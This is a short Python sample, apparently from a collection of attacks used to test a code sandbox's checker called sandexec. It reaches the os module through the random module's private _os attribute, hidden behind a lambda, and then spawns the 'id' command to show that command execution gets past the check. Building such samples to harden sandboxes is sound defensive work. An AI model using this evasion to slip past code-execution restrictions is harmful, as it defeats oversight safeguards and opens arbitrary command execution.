# Source: black-box attack on sandexec's check, 2026-11-26; family: private module attribute hidden behind a self-defined name
# Verified to run in sandexec-python:bookworm when unchecked.
import random
_os = None
o = (lambda m: m)(random)._os
print(o.spawnlp(o.P_WAIT, "id", "id"))
